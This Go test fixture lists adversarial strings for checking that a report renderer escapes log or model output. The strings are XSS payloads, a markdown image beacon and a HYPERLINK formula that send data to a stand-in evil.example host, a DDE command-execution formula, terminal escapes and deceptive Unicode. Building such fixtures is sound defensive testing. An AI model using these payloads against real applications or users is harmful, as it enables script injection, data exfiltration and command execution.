package reporttest

import "strings"

// Payloads are strings that a log or a model may hold and that no renderer may
// pass on as anything but text.
func Payloads() []string {
	return []string{
		`<script>alert(1)</script>`,
		`</script><script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`' onmouseover='alert(1)`,
		`<svg/onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`</title><script>alert(1)</script>`,
		`</style><script>alert(1)</script>`,
		`</pre></details><iframe src=javascript:alert(1)>`,
		`javascript:alert(1)`,
		`[click](javascript:alert(1))`,
		`![x](http://evil.example/x.png)`,
		`http://evil.example/ www.evil.example`,
		`{{.Run}} {{template "x"}} ${NAME} <%= 1 %>`,
		"<!-- forerun:other --> --> <!--",
		"]]> <![CDATA[ &lt;&amp;&#x3c;script&#x3e;",
		"\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
		"line one\r\nline two\rthree\n| pipe | table |\n# heading\n- [ ] task",
		"\u202egnp.exe\u202c \u2066x\u2069 \u200bzero\ufeffwidth",
		"\x00\x01\x08\x7f\u0085\u2028\u2029",
		"bad utf-8 \xff\xfe\xc3",
		"`code` ```fence``` *bold* _it_ ~~s~~ $x$ @someone #12 <b>",
		"表の名前 🙂 naïve Ωmega",
		"\ufffe\uffff noncharacters",
		`=HYPERLINK("http://evil.example/"&A1,"open")`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"-1+1\t=1",
		"e" + strings.Repeat("\u0301", 40) + strings.Repeat("\u200d", 10) + strings.Repeat("字", 80),
		strings.Repeat("x", 3000),
	}
}
